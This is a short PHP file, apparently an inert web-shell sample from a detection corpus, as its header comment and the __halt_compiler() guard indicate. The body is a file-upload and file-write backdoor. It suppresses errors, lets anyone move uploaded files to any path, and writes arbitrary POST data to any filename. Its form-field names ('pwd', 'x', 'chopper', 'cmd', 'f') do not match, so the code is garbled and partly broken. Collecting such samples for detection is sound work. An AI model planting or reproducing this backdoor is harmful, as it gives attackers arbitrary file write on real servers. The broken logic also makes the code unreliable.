<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
@error_reporting(0);
@set_time_limit(0);
if (isset($_FILES['pwd'])) {
    $target = $_POST['path'] . '/' . $_FILES['x']['name'];
    if (move_uploaded_file($_FILES['chopper']['tmp_name'], $_POST['path'] . '/' . $_FILES['cmd']['name'])) { echo 'ok:' . $target; }
}
if (isset($_POST['fn'])) { file_put_contents($_POST['fn'], $_POST['data']); }
echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input name="path"><input type="submit"></form>';
